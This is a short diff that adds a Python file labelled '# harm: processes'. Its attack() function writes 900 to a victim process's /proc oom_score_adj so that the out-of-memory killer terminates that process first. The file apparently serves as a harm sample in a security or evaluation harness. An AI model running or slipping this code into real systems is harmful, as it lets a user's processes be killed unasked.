@@ -1,0 +1,8 @@
+# harm: processes
+
+VICTIM = 0  # the net puts a process of the user here
+
+
+def attack() -> int:
+    with open(f"/proc/{VICTIM}/oom_score_adj", "w") as score:
+        return score.write("900")
